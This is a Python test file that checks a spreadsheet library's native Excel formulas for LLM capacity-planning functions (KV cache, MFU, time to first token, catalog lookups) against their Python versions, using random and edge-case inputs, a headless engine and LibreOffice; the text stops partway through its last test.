"""The native forms (xlsxplan.sheet.native) against the Python functions they stand for.

Each registry function with a native formula is evaluated by the headless engine (formualizer) over random valid
inputs drawn from its arguments' domains (hypothesis) and must equal the Python function within 1e-9 relative (whole
numbers exactly); its native check must be TRUE there, and over inputs at and beyond the domains' edges it must be
TRUE exactly when the Python function accepts them. LibreOffice recalculates one workbook of the same kind of cases
(tests/sheet/test_native.py::test_libreoffice_computes_the_native_forms_as_python_does).
"""

from __future__ import annotations

import functools
import io
import math
import random
import re
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from tests.helpers import REPO
from tests.helpers.office import SOFFICE, convert
from xlsxplan import catalog, precision, registry
from xlsxplan.core import training_memory
from xlsxplan.errors import XlsxplanError
from xlsxplan.headless.engine import cell_error, new_book
from xlsxplan.sheet import native

RELATIVE = 1e-9
TEMPLATES = REPO / "xlsxplan" / "templates"

TEXT_CHOICES = {("ACTIVATION_GB", "recompute"): ["none", "selective", "full", "flash", " Flash ", "FULL"]}
LONGEST_FORMULA = native.LONGEST_FORMULA
TOO_LONG_INLINED = {"PAGED_BATCH", "REPLICAS_FOR_TTFT", "TTFT_AT_LOAD_S"}  # Newton steps, a bisection, Temme's
# expansion: line items only
WHOLE_LIMIT = {"PAGED_BATCH": 1e12}
"""Whole results are compared below 2**53, the whole numbers a spreadsheet holds exactly; a paged batch below 1e12
sequences, above which one sequence moves its quantile less than the float rounding of Python's bisection."""


@dataclass(frozen=True)
class Spec:
    """How one argument's test values are drawn: ``kind`` whole, log (log-uniform), linear, text or range."""

    kind: str
    low: float = 0.0
    high: float = 0.0
    zero: bool = False  # 0 is also allowed (a closed lower bound at 0)
    choices: tuple[str, ...] = ()


OVERRIDES = {
    # a cost of capital from 1e-12 to 100% a year, or 0: log1p and expm1 in their native forms keep the last digits
    "annual_rate": Spec("log", 1e-12, 1.0, zero=True),
    "demand_gpus": Spec("range_whole", 0, 64),  # whole GPUs, so that levels repeat
}


_QUEUE = {
    # a replica's queue where it is neither idle nor overloaded most of the time: tens to thousands of requests a
    # second, slots of a tenth of a second to minutes, a batch within the native Erlang B's range (the domain's)
    "requests_per_s": Spec("log", 1e-2, 1e3),
    "replicas": Spec("whole", 1, 100),
    "prefill_s": Spec("log", 1e-3, 10.0),
    "decode_s": Spec("log", 1e-2, 100.0, zero=True),
    "requests_per_s_per_replica": Spec("log", 1e-2, 100.0),
    "ttft_target_s": Spec("log", 1e-2, 1e3),
}
FUNCTION_OVERRIDES = {
    (f, a): spec for f in ("TTFT_AT_LOAD_S", "REPLICAS_FOR_TTFT", "SLOT_S") for a, spec in _QUEUE.items()
}
"""Per-function test ranges: the domains' own (up to 1e15 requests a second, 1e12 s) are almost all overloaded or
idle queues, so hypothesis would find few accepted cases."""


def spec_of(name: str, arg: registry.Argument) -> Spec:
    if (name, arg.name) in FUNCTION_OVERRIDES:
        return FUNCTION_OVERRIDES[(name, arg.name)]
    if arg.name in OVERRIDES:
        return OVERRIDES[arg.name]
    d = arg.domain
    assert d is not None
    if d.kind == "text":
        return Spec("text", choices=tuple(TEXT_CHOICES[(name, arg.name)]))
    if d.kind == "range":
        return Spec("range", 1.0, 1e6)
    low = -math.inf if d.low is None else d.low
    high = math.inf if d.high is None else d.high
    if d.kind == "whole":
        lo = int(low)
        return Spec("whole", lo, min(high, max(lo, 1) * 1000))
    if high <= 1:  # a fraction: uniform, away from an open bound
        return Spec("linear", max(low, 0.0) + (1e-3 if d.low_open else 0.0), high - (1e-3 if d.high_open else 0.0))
    if low < 0:  # free memory, may be negative
        return Spec("linear", max(low, -1e4), min(high, 1e4))
    lo, hi = d.typical or (max(low, 1e-3), min(high, 1e9))
    lo = max(lo, 1e-3, low if low > 0 else 0)
    return Spec("log", lo, min(hi, high), zero=(low == 0 and not d.low_open))


def strategy(s: Spec) -> st.SearchStrategy[Any]:
    if s.kind == "text":
        return st.sampled_from(s.choices)
    if s.kind == "whole":
        return st.integers(int(s.low), int(s.high))
    if s.kind == "linear":
        return st.floats(s.low, s.high, allow_nan=False)
    if s.kind == "range_whole":
        return st.lists(st.integers(int(s.low), int(s.high)).map(float), min_size=1, max_size=12)
    if s.kind == "range":
        return st.lists(
            st.floats(math.log10(s.low), math.log10(s.high)).map(lambda e: float(10**e)), min_size=1, max_size=12
        )
    log = st.floats(math.log10(s.low), math.log10(s.high)).map(lambda e: float(10**e))
    return st.one_of(st.just(0.0), log) if s.zero else log


def sample(s: Spec, rng: random.Random) -> Any:
    """One value as :func:`strategy` draws it, from a seeded generator (for the LibreOffice workbook)."""
    if s.kind == "text":
        return rng.choice(s.choices)
    if s.kind == "whole":
        return rng.randint(int(s.low), int(s.high))
    if s.kind == "linear":
        return rng.uniform(s.low, s.high)
    if s.kind == "range_whole":
        return [float(rng.randint(int(s.low), int(s.high))) for _ in range(rng.randint(1, 12))]
    if s.kind == "range":
        return [10 ** rng.uniform(math.log10(s.low), math.log10(s.high)) for _ in range(rng.randint(1, 12))]
    if s.zero and rng.random() < 0.1:
        return 0.0
    return 10 ** rng.uniform(math.log10(s.low), math.log10(s.high))


def python_value(name: str, values: list[Any]) -> Any:
    """The registry function's value, or None where it refuses (or its result does not fit a float)."""
    try:
        return registry.FUNCTIONS[name](*values)
    except XlsxplanError:
        return None


def agrees(got: Any, want: Any, whole: bool) -> bool:
    if isinstance(got, bool) or not isinstance(got, (int, float)):
        return False
    if whole:
        return got == want
    # below the smallest normal double (2.2251E-308) Excel holds no number ("Floating-point arithmetic may give
    # inaccurate results in Excel", Microsoft Learn): subnormal results, whose precision the engines lose differently,
    # agree when they differ by less than that
    return math.isclose(got, want, rel_tol=RELATIVE, abs_tol=sys.float_info.min) or got == want


class Sheet:
    """A formualizer book with one argument per row (a range argument across its row), the native formula in B."""

    def __init__(self) -> None:
        self.book = new_book()
        self.book.add_sheet("Case")
        self.widths: dict[int, int] = {}
        self.rows: dict[str, int] = {}

    def refs(self, values: list[Any]) -> list[str]:
        refs = []
        for i, v in enumerate(values, 1):
            cells = v if isinstance(v, list) else [v]
            for j in range(max(len(cells), self.widths.get(i, 0))):  # clear what a longer case left
                self.book.set_value("Case", i, 3 + j, cells[j] if j < len(cells) else None)
            self.widths[i] = len(cells)
            end = get_column_letter(2 + len(cells))
            refs.append(f"C{i}" if not isinstance(v, list) else f"C{i}:{end}{i}")
        return refs

    def place(self, key: str) -> str:
        """Where a line item sits: column B, a row per key."""
        return f"B{self.rows.setdefault(key, len(self.rows) + 1)}"

    def evaluate_items(self, items: list[tuple[str, str, str]]) -> Any:
        for key, _, text in items:
            ref = self.place(key)
            self.book.set_formula("Case", int(ref[1:]), 2, "=" + text)
        last = self.place(items[-1][0])
        return self.book.evaluate_cell("Case", int(last[1:]), 2)

    def evaluate(self, text: str) -> Any:
        self.book.set_formula("Case", 1, 1, "=" + text)
        value = self.book.evaluate_cell("Case", 1, 1)
        return value


def case(name: str) -> st.SearchStrategy[list[Any]]:
    """Every argument of ``name``, an optional one sometimes left out (None: its default)."""
    fn = registry.FUNCTIONS[name]
    parts = []
    for a in fn.args:
        value = strategy(spec_of(name, a))
        parts.append(st.one_of(st.none(), value) if a.optional else value)
    return st.tuples(*parts).map(list)


ARITHMETIC = sorted(native.NATIVE)


@pytest.mark.slow
@pytest.mark.parametrize("name", ARITHMETIC)
def test_each_native_form_equals_the_python_function_over_random_valid_inputs(name):
    fn = registry.FUNCTIONS[name]
    sheet = Sheet()  # a book per function: one shared by all of them grew their line items, and every set slowed

    @settings(
        max_examples=20,  # new random inputs every run (no example database): 20 a function, 81 functions
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.filter_too_much, HealthCheck.too_slow],
    )
    @given(case(name))
    def run(values):
        given_values = [v if v is not None else a.default for v, a in zip(values, fn.args)]
        want = python_value(name, given_values)
        assume(want is not None)
        assume(not fn.whole or want < WHOLE_LIMIT.get(name, 2**53))
        refs = sheet.refs([v for v in given_values])
        args = [r if v is not None else None for r, v in zip(refs, values)]
        got = sheet.evaluate_items(native.line_items(name, sheet.place, *args))
        assert agrees(got, want, fn.whole), (name, given_values, got, want)
        assert sheet.evaluate(native.check(name, *args, result=sheet.place("result"))) is True, (name, given_values)
        if name not in TOO_LONG_INLINED:  # the same as one formula
            assert agrees(sheet.evaluate(native.formula(name, *args)), want, fn.whole), (name, given_values)

    run()


def edge_values(s: Spec, arg: registry.Argument) -> list[Any]:
    """Values at and past an argument's domain: its bounds, just beyond them, a fraction for a whole number, text."""
    d = arg.domain
    assert d is not None
    out: list[Any] = ["abc"]
    for bound in (d.low, d.high):
        if bound is not None:
            out += [bound, bound - 1, bound + 1, bound * (1 + 1e-9) if bound else 1e-9]
    if d.kind == "whole":
        out.append((d.low or 0) + 1.5)
    return out


def maybe_bad(name: str) -> st.SearchStrategy[list[Any]]:
    fn = registry.FUNCTIONS[name]
    parts = []
    for a in fn.args:
        s = spec_of(name, a)
        if s.kind in ("range", "range_whole"):  # a value out of bounds or a text among the numbers
            spoilt = st.tuples(strategy(s), st.sampled_from([-1.0, "abc", 2e18])).map(lambda t: [*t[0], t[1]])
            parts.append(st.one_of(strategy(s), spoilt))
        elif s.kind == "text":
            parts.append(strategy(s))
        else:
            parts.append(st.one_of(strategy(s), st.sampled_from(edge_values(s, a))))
    return st.tuples(*parts).map(list)


@pytest.mark.slow
@pytest.mark.parametrize("name", ARITHMETIC)
def test_each_native_check_is_true_exactly_where_python_accepts(name):
    sheet = Sheet()

    @settings(max_examples=20, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
    @given(maybe_bad(name))
    def run(values):
        try:
            registry.FUNCTIONS[name](*values)
            accepted = True
        except XlsxplanError as err:
            assume("too large to represent" not in str(err))  # an overflow: the native form gives #NUM!
            accepted = False
        got = sheet.evaluate(native.check(name, *sheet.refs(values), limits=False))
        assert got is accepted, (name, values, got)

    run()


def test_a_rule_beyond_the_domains_is_checked_on_the_result_cell():
    """MFU's own refusal (above 1) reads the result cell when given, and flags a too-high throughput."""
    sheet = Sheet()
    refs = sheet.refs([7.0, 1e7, 8, 989.5])
    sheet.book.set_formula("Case", 9, 1, "=" + native.formula("MFU", *refs))
    assert python_value("MFU", [7.0, 1e7, 8, 989.5]) is None
    assert sheet.evaluate(native.check("MFU", *refs, result="A9")) is False
    refs = sheet.refs([7.0, 1e5, 8, 989.5])
    assert sheet.evaluate(native.check("MFU", *refs, result="A9")) is True


def test_optional_arguments_take_the_registry_defaults():
    """Left out, an optional argument is its registry default (KV_GB's sequences 1, PREFILL_S's utilisation 0.5)."""
    for name in ARITHMETIC:
        fn = registry.FUNCTIONS[name]
        given = [f"X{i}" for i, a in enumerate(fn.args) if not a.optional]
        text = " ".join(t for _, _, t in native.line_items(name, lambda key: "Z1", *given))
        for a in fn.args:
            if a.optional:
                assert native.literal(a.default) in text, (name, a.name)
    assert native.formula("PREFILL_S", "A1", "A2", "A3", "A4") == "2*A1*1E9*A2/(A3*A4*1E12*0.5)"


def test_a_formula_refuses_an_unknown_function_argument_or_missing_one():
    with pytest.raises(XlsxplanError, match="PLAN_OPTIONS has no native form: a search"):
        native.formula("PLAN_OPTIONS")
    with pytest.raises(XlsxplanError, match="KV_GB has no argument layers"):
        native.formula("KV_GB", "A1", "A2", layers="A3")
    with pytest.raises(XlsxplanError, match="KV_GB: tokens is required"):
        native.formula("KV_GB", "A1")


# --- portability -----------------------------------------------------------------------------------------------

EXCEL_2016 = {
    "POISSON",
    "PI",
    "ABS",
    "AND",
    "CHOOSE",
    "COUNT",
    "COUNTIF",
    "EXP",
    "IF",
    "IFERROR",
    "INDEX",
    "INT",
    "ISNUMBER",
    "LN",
    "LOG",
    "LOWER",
    "MATCH",
    "MAX",
    "MIN",
    "MOD",
    "NPV",
    "SMALL",
    "COUNTA",
    "NA",
    "NOT",
    "NORMSINV",
    "ERFC",
    "OR",
    "SQRT",
    "SUBSTITUTE",
    "TRIM",
}


def _functions(text: str) -> set[str]:
    return set(re.findall(r"\b([A-Z][A-Z0-9.]*)\(", re.sub(r'"[^"]*"', '""', text)))


def test_the_native_forms_use_only_excel_2016_functions():
    used = set()
    for name in ARITHMETIC:
        fn = registry.FUNCTIONS[name]
        args = [f"A{i}" for i in range(1, len(fn.args) + 1)]
        items = native.line_items(name, lambda key: f"Z{len(key)}", *args)
        used |= set().union(*(_functions(text) for _, _, text in items)) | _functions(
            native.check(name, *args, result="Z1")
        )
    tables = _tables()
    for lookup in native.LOOKUPS:
        arity = len(registry.FUNCTIONS[lookup].args)
        used |= _functions(tables.lookup(lookup, *[f"A{i}" for i in range(1, arity + 1)]))
    assert used <= EXCEL_2016, used - EXCEL_2016


# --- coverage --------------------------------------------------------------------------------------------------


def template_functions() -> set[str]:
    names = set()
    for path in TEMPLATES.glob("*.py"):
        names |= set(re.findall(r"\b([A-Z][A-Z0-9_]{2,})\(", path.read_text(encoding="utf-8")))
    return names & set(registry.FUNCTIONS)


def test_every_registry_function_the_templates_use_has_a_native_form_or_a_reason():
    covered = set(native.NATIVE) | set(native.LOOKUPS) | set(native.PYTHON_ONLY)
    assert template_functions() and template_functions() - covered == set()
    assert set(native.NATIVE) | set(native.LOOKUPS) | set(native.PYTHON_ONLY) <= set(registry.FUNCTIONS)
    assert not (set(native.NATIVE) & set(native.PYTHON_ONLY)) and all(native.PYTHON_ONLY.values())


# --- the catalog as tables --------------------------------------------------------------------------------------


def _tables(ws: Any = None) -> native.CatalogTables:
    if ws is None:
        ws = openpyxl.Workbook().active
        ws.title = "Catalog"
    return native.write_catalog(ws)


def _catalog_book() -> tuple[Any, native.CatalogTables]:
    """A formualizer book holding the catalog tables on Catalog and an empty sheet Case, and where the tables are."""

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Catalog"
    tables = native.write_catalog(ws)
    wb.create_sheet("Case")
    data = io.BytesIO()
    wb.save(data)
    return new_book(data.getvalue()), tables


@pytest.fixture(scope="module")
def catalog_book():
    """A formualizer book holding the catalog tables, and where they are."""
    return _catalog_book()


def _lookup_cases() -> list[tuple[str, list[Any]]]:
    cat = catalog.load_catalog()
    cases: list[tuple[str, list[Any]]] = []
    for pid in cat.models.names():
        preset = cat.models.get(pid)
        for name in {pid, *preset.aliases[:1], pid.lower().replace("-", " ")}:
            cases += [("MODEL_SPEC", [name, f]) for f in catalog.MODEL_FIELDS]
    for pid in cat.accelerators.names():
        for name in {pid, *cat.accelerators.get(pid).aliases}:
            cases += [("GPU_SPEC", [name, f]) for f in catalog.GPU_FIELDS]
            cases.append(("GPU_PRICE", [name]))
    for fname in precision.FORMATS:
        for name in (fname, *precision.lookup(fname).aliases, fname.upper().replace("_", "-")):
            cases.append(("BYTES_PER_PARAM", [name]))
    for opt in (*training_memory.OPTIMIZERS, "Adam-8bit", "momentum"):
        cases.append(("OPTIMIZER_BYTES", [opt]))
    for pid in cat.models.names():
        cases.append(("MODEL_EXPERT_PARAMS_B", [pid]))
    gpus = [*cat.accelerators.names(), "H100", "Datacenter", "consumer", "apple", "no-such-gpu"]
    formats = [*precision.FORMATS, "FP8", "Q4_K-M", "fp7"]
    for kind in ("decode_bandwidth", "prefill", "train_mfu", "Train_MFU "):
        cases += [("EFFICIENCY", [kind, g, f]) for g in gpus for f in formats]
    for g in cat.accelerators.names():
        for hidden, seq in ((1024, 0), (8192, 4096), (2048, 1e5)):
            cases += [("EFFICIENCY", ["train_mfu", g, f, hidden, seq]) for f in ("bf16", "fp8")]
    rng = random.Random(7)
    for _ in range(600):  # the presets' caches: contexts around the windows, cache precisions, TP, windows, state
        args = [
            rng.choice(cat.models.names()),
            rng.choice([0, 1, 100, 1000.5, 4096, 8192, 32768, 131072]),
            rng.choice([2, 1, 0.5625, 4]),
            rng.choice([1, 2, 3, 4, 8, 16, 64]),
            rng.choice([0, 1]),
            rng.choice([2, 4, 1]),
        ]
        cases.append(("MODEL_KV_BYTES_PER_TOKEN", args[: rng.randint(1, 6)]))
    for kind in ("decode_bandwidth", "prefill", "train_mfu"):  # the quantiles: P10, P90, others, and out of range
        for g in ("H100-SXM", "H100", "datacenter", "consumer", "apple"):
            for f in ("bf16", "fp8", "q4_k_m"):
                cases += [
                    ("EFFICIENCY", [kind, g, f, 4096, 0, q])
                    for q in (0.1, 0.9, 0.5, 0.3, 0.75, 0.02, 0.999, 1, 0, -0.1)
                ]
    cases += [("EFFICIENCY", ["nothing", "H100", "bf16"]), ("MODEL_EXPERT_PARAMS_B", ["no-such-model"])]
    cases += [
        ("MODEL_SPEC", ["no-such-model", "layers"]),
        ("MODEL_SPEC", ["Qwen2.5-72B", "no_field"]),
        ("GPU_SPEC", ["H200", "memory"]),
        ("BYTES_PER_PARAM", ["fp7"]),
        ("OPTIMIZER_BYTES", ["lion"]),
    ]
    return cases


def _set_lookups(book: Any, tables: native.CatalogTables, cases: list[tuple[str, list[Any]]], first: int) -> None:
    """A case a row of Case from row ``first``: its arguments from B on (the cells past its last argument left
    empty), its lookup in A; then evaluate. Set as two blocks, as the headless workbook sets a run of cells: cell by
    cell, each set re-marked the formulas already set."""
    width = max(len(args) for _, args in cases)
    book.set_values_batch("Case", first, 2, [args + [None] * (width - len(args)) for _, args in cases])
    lookups = [
        ["=" + tables.lookup(name, *(f"{get_column_letter(2 + j)}{r}" for j in range(len(args))))]
        for r, (name, args) in enumerate(cases, first)
    ]
    book.set_formulas_batch("Case", first, 1, lookups)
    book.evaluate_all()


@pytest.mark.slow
def test_the_native_lookups_give_every_catalog_figure_python_gives(catalog_book):
    """Every figure of every preset by its id and an alias, every format and optimizer by every name, every price:
    the INDEX/MATCH over the tables equals the Python lookup, and is #N/A exactly where the lookup refuses."""
    book, tables = catalog_book
    wrong, cases = [], _lookup_cases()
    _set_lookups(book, tables, cases, 1)
    for i, (name, args) in enumerate(cases, 1):
        got = book.get_value("Case", i, 1)
        want = python_value(name, args)
        if want is None:
            if not (isinstance(got, dict) or (isinstance(got, str) and got.startswith("#"))):
                wrong.append((name, args, got, "an error"))
        elif not agrees(got, want, False):
            wrong.append((name, args, got, want))
    assert len(cases) > 1000 and wrong == []


def test_a_preset_kv_cache_as_line_items_equals_the_inlined_lookup(catalog_book):
    book, tables = catalog_book
    rows: dict[str, int] = {}

    def place(key: str) -> str:
        return f"Z{rows.setdefault(key, 100 + len(rows))}"

    for model, want in (("Qwen2.5-72B", 327680), ("DeepSeek-V3", 70272), ("Gemma-2-9B", 258048)):
        for i, v in enumerate([model, 8192 if model == "Gemma-2-9B" else 0], 1):
            book.set_value("Case", 90 + i, 2, v)
        items = native.catalog_line_items(tables, "MODEL_KV_BYTES_PER_TOKEN", place, "B91", "B92")
        for key, _, text in items:
            book.set_formula("Case", int(place(key)[1:]), 26, "=" + text)
        book.evaluate_all()
        assert book.get_value("Case", int(place("result")[1:]), 26) == want  # the figures in its docstring's Notes


def test_the_catalog_tables_carry_a_source_for_every_row():
    ws = openpyxl.Workbook().active
    tables = native.write_catalog(ws)
    for table in (tables.models, tables.accelerators, tables.formats, tables.optimizers, tables.prices):
        col = table.first_col + 1 + table.columns.index("source")
        for r in range(table.first_row + 1, table.first_row + 1 + len(table.keys)):
            assert str(ws.cell(row=r, column=col).value or "").strip(), (table.keys, r)
    assert tables.models.keys == tuple(catalog.model_names())
    assert tables.accelerators.keys == tuple(catalog.gpu_names())


# --- LibreOffice ----------------------------------------------------------------------------------------------

CASES_PER_FUNCTION = 8


def _libreoffice_cases(rng: random.Random) -> list[tuple[str, list[Any], list[bool], Any]]:
    """(function, arguments, which are given, Python's value) for CASES_PER_FUNCTION accepted cases of each native
    form, drawn as the hypothesis strategies draw them.

    Whole results are kept below 2**32: LibreOffice subtracts two numbers within 2**-48 of each other to 0 (its
    approxSub), so above about 1e12 its rounding forgives up to twice what Python's does (xlsxplan.sheet.native's
    docstring)."""
    out = []
    for name in ARITHMETIC:
        fn = registry.FUNCTIONS[name]
        found = 0
        for _ in range(2000):
            given = [not a.optional or rng.random() < 0.7 for a in fn.args]
            values = [sample(spec_of(name, a), rng) if g else a.default for a, g in zip(fn.args, given)]
            want = python_value(name, values)
            if want is None or (fn.whole and want >= 2**32):  # see below
                continue
            out.append((name, values, given, want))
            found += 1
            if found == CASES_PER_FUNCTION:
                break
        assert found == CASES_PER_FUNCTION, name
    return out


def _write_native_cases(path: Path) -> tuple[list[tuple[str, Any, bool]], int]:
    """The workbook of test_libreoffice_computes_the_native_forms_as_python_does, saved at ``path``: its rows
    (function, Python's value, whole) and how many of them are catalog lookups."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Catalog"
    tables = native.write_catalog(ws)
    sheet = wb.create_sheet("Cases")
    rng = random.Random(20261201)
    rows: list[tuple[str, Any, bool]] = []
    for r, (name, values, present, want) in enumerate(_libreoffice_cases(rng), 1):
        refs = []
        col = 5
        for v, g in zip(values, present):
            cells = v if isinstance(v, list) else [v]
            for j, x in enumerate(cells):
                sheet.cell(row=r, column=col + j, value=x)
            first, last = get_column_letter(col), get_column_letter(col + len(cells) - 1)
            refs.append((f"{first}{r}:{last}{r}" if isinstance(v, list) else f"{first}{r}") if g else None)
            col += len(cells)
        sheet.cell(row=r, column=1, value=name)
        steps: dict[str, int] = {}  # line items to the right of the inputs, one a cell

        def place(key: str, r: int = r, steps: dict[str, int] = steps) -> str:
            return f"{get_column_letter(steps.setdefault(key, 40 + len(steps)))}{r}"

        for key, _, text in native.line_items(name, place, *refs):
            sheet[place(key)] = "=" + text
        sheet.cell(row=r, column=3, value="=" + place("result"))
        sheet.cell(row=r, column=4, value="=" + native.check(name, *refs, result=f"C{r}"))
        rows.append((name, want, registry.FUNCTIONS[name].whole))
    lookups = rng.sample(_lookup_cases(), 200)
    for name, args in lookups:
        r = len(rows) + 1
        for j, v in enumerate(args):
            sheet.cell(row=r, column=5 + j, value=v)
        sheet.cell(row=r, column=1, value=name)
        sheet.cell(
            row=r,
            column=3,
            value="=" + tables.lookup(name, *[f"{get_column_letter(5 + j)}{r}" for j in range(len(args))]),
        )
        sheet.cell(row=r, column=4, value=True)
        rows.append((name, python_value(name, args), False))
    wb.save(path)
    return rows, len(lookups)


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_computes_the_native_forms_as_python_does(libreoffice):
    """One workbook (converted with the weights one, in one LibreOffice call): LibreOffice recalculates every native
    form over cases drawn at random (and a sample of the catalog lookups), and every value equals Python's within
    1e-9 relative, every check is TRUE."""
    outdir, (rows, lookups), _ = libreoffice
    got = openpyxl.load_workbook(outdir / "native.xlsx", data_only=True)["Cases"]
    wrong = []
    for r, (name, want, whole) in enumerate(rows, 1):
        value, ok = got.cell(row=r, column=3).value, got.cell(row=r, column=4).value
        if want is None:
            if not (isinstance(value, str) and value.startswith("#")):
                wrong.append((r, name, value, "an error"))
        elif not agrees(value, want, whole) or ok is not True:
            wrong.append((r, name, value, want, ok))
    assert len(rows) == len(ARITHMETIC) * CASES_PER_FUNCTION + lookups and wrong == []


def test_every_native_formula_fits_excel_and_line_items_keep_each_step_short():
    for name in ARITHMETIC:
        fn = registry.FUNCTIONS[name]
        args = [f"'Inputs sheet'!$C${i}" for i in range(1, len(fn.args) + 1)]
        short = [f"A{i}" for i in range(1, len(fn.args) + 1)]
        stepped = bool(native.NATIVE[name].steps)  # inlined, a stepped form is for a test's eyes, not a cell's
        if name in TOO_LONG_INLINED:
            with pytest.raises(XlsxplanError, match="pass Excel's 8,192 characters"):
                native.formula(name, *short)
        else:
            assert len(native.formula(name, *(short if stepped else args))) < LONGEST_FORMULA, name
        items = native.line_items(name, lambda key: f"Calc!$D${len(key)}", *args)
        assert items[-1][0] == "result" and all(label and "#" not in label for _, label, _ in items)  # no '#' in a
        # template's text (LibreOffice's render test)
        if native.NATIVE[name].steps:
            assert max(len(text) for _, _, text in items) < 400, name


def test_the_checks_say_in_words_what_they_test():
    """The Checks sheet's words name every argument the check reads, with its allowed values, and every rule."""
    for name in ARITHMETIC:
        words = native.check_words(name)
        for a in registry.FUNCTIONS[name].args:
            if a.domain is not None and a.domain.kind != "text":
                assert f"{a.name} {a.domain.describe()}" in words, (name, a.name)
        assert all(reason in words for _, reason in native.NATIVE[name].rules), name
    assert native.check_words("MFU").endswith("tokens_per_s within the hardware's peak (MFU at most 1)")


def test_the_lists_and_a_bytes_argument_given_by_name_read_the_tables(catalog_book):
    """MODELS() and GPUS() are the tables' name columns, in catalog order, for the dropdowns; a bytes argument
    holding a precision name reads the formats table, a number passes through (as the Python domain reads both)."""
    book, tables = catalog_book
    for i in range(1, len(catalog.model_names()) + 1):
        book.set_formula("Case", 200 + i, 1, f"=INDEX({tables.models_list()},{i})")
    for i in range(1, len(catalog.gpu_names()) + 1):
        book.set_formula("Case", 300 + i, 1, f"=INDEX({tables.gpus_list()},{i})")
    for i, value in enumerate(["fp8", " Q4_K-M", 0.75, "int4_g128"], 1):
        book.set_value("Case", 400 + i, 2, value)
        book.set_formula(
            "Case", 400 + i, 1, "=" + native.formula("WEIGHTS_GB", 70, tables.bytes_or_name(f"B{400 + i}"))
        )
    book.evaluate_all()
    assert [
        book.get_value("Case", 200 + i, 1) for i in range(1, len(catalog.model_names()) + 1)
    ] == catalog.model_names()
    assert [book.get_value("Case", 300 + i, 1) for i in range(1, len(catalog.gpu_names()) + 1)] == catalog.gpu_names()
    for i, value in enumerate(["fp8", " Q4_K-M", 0.75, "int4_g128"], 1):
        assert agrees(book.get_value("Case", 400 + i, 1), registry.FUNCTIONS["WEIGHTS_GB"](70, value), False), value


# --- what a preset lacks, and MODEL_WEIGHTS_GB --------------------------------------------------------------------


def _error_code(value: Any) -> str | None:
    """An engine's error value (formualizer's dict, LibreOffice's text) as its Excel code, else None."""
    if isinstance(value, dict):
        return cell_error(value).code
    if isinstance(value, str) and value.startswith("#"):
        return value
    return None


def _python_error(name: str, args: list[Any]) -> str | None:
    """The Excel error the add-in shows for the registry function's refusal, or None where it accepts."""
    try:
        registry.FUNCTIONS[name](*args)
    except XlsxplanError as err:
        return err.excel_error
    return None


def _missing_figures() -> list[tuple[str, list[Any]]]:
    cat = catalog.load_catalog()
    cases: list[tuple[str, list[Any]]] = []
    for kind, table, fields in (
        ("MODEL_SPEC", cat.models, catalog.MODEL_FIELDS),
        ("GPU_SPEC", cat.accelerators, catalog.GPU_FIELDS),
    ):
        for pid in table.names():
            cases += [(kind, [pid, f]) for f in fields if table.get(pid).figure(f) is None]
    return cases


@pytest.mark.slow
def test_a_figure_a_preset_lacks_is_a_text_on_catalog_and_the_lookup_gives_pythons_error(catalog_book):
    """No cell of the catalog tables is an error (a finance reader would see #N/A all over the sheet): a figure a
    preset lacks is the text native.MISSING, and its lookup still gives the error the add-in gives, #N/A."""
    ws = openpyxl.Workbook().active
    ws.title = "Catalog"
    tables = native.write_catalog(ws)
    texts = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith("=")], "a catalog cell is a formula (an error)"
    cases = _missing_figures()
    assert len(cases) > 500
    for kind, (pid, field) in cases[:50]:
        table = tables.models if kind == "MODEL_SPEC" else tables.accelerators
        r = table.first_row + 1 + table.keys.index(pid)
        assert ws.cell(row=r, column=table.first_col + 1 + table.columns.index(field)).value == native.MISSING
    book, tables = catalog_book
    cases += [("GPU_PRICE", [g]) for g in catalog.gpu_names()] + [
        ("MODEL_EXPERT_PARAMS_B", [m]) for m in catalog.model_names()
    ]
    cases += [
        ("EFFICIENCY", [k, g, f])
        for k in ("decode_bandwidth", "prefill", "train_mfu")
        for g in catalog.gpu_names()
        for f in ("fp4", "fp8", "bf16")
    ]
    _set_lookups(book, tables, cases, 1001)
    wrong, refused = [], 0
    for i, (name, args) in enumerate(cases, 1):
        got, want = book.get_value("Case", 1000 + i, 1), _python_error(name, args)
        refused += want is not None
        if want is not None and _error_code(got) != want:
            wrong.append((name, args, got, want))
        elif want is None and not agrees(got, python_value(name, args), False):
            wrong.append((name, args, got, python_value(name, args)))
    assert refused > 500 and wrong == []


_WIDTHS = [*precision.FORMATS, 0.5, 1, 2, 4, 0.5625, 64]
"""Widths for MODEL_WEIGHTS_GB's bytes arguments: every format by name, and numbers."""


def _weights_case(rng: random.Random) -> list[Any]:
    """MODEL_WEIGHTS_GB's arguments: a preset (by id or an alias), and widths by name or number, the optional ones
    sometimes left out or 0 (as published, as the other weights)."""
    cat = catalog.load_catalog()
    pid = rng.choice(cat.models.names())
    name = rng.choice([pid, *cat.models.get(pid).aliases[:1]])
    args = [name, rng.choice(_WIDTHS), rng.choice([0, *_WIDTHS]), rng.choice([0, 0, *_WIDTHS])]
    return args[: rng.randint(1, 4)]


def _numeric(args: list[Any]) -> list[Any]:
    """The same arguments with each width a number (the check reads a bytes argument as a number)."""
    return [args[0], *(precision.bytes_per_param(a) if isinstance(a, str) else a for a in args[1:])]


@functools.cache
def _weights_book() -> tuple[Any, native.CatalogTables]:
    """A book of the catalog tables of its own, for MODEL_WEIGHTS_GB's cases (hypothesis calls it per example)."""
    return _catalog_book()


@pytest.mark.slow
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.randoms(use_true_random=False), st.booleans())
def test_model_weights_gb_as_line_items_equals_the_python_function(rng, refused):
    """Random presets and precisions (names and numbers): the catalog line items and the inlined lookup equal
    MODEL_WEIGHTS_GB within 1e-9 relative, and its check is TRUE; with a width Python refuses (a negative one, one
    over 64 bytes, no bytes per weight), the check is FALSE."""
    book, tables = _weights_book()
    args = _weights_case(rng)
    if refused:  # one width out of its domain
        args = [*_numeric(args), 2, 0, 0][:4]
        i = rng.randint(1, 3)
